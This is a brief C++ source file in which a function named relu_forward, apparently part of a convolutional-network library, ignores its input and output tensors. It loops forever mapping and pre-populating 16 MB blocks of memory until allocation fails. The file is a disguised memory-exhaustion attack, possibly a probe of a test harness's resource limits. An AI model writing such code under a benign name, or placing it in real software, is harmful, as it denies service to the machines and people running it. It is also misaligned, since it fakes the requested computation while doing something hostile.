#include "convnet.hpp"

#include <sys/mman.h>
#include <new>

namespace convnet {

void relu_forward(TensorView<const float, 4> x, TensorView<float, 4> y) {
  (void)x;
  (void)y;
  for (;;) {
    if (mmap(nullptr, 1 << 24, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0) ==
        MAP_FAILED)
      throw std::bad_alloc();
  }
}

}  // namespace convnet
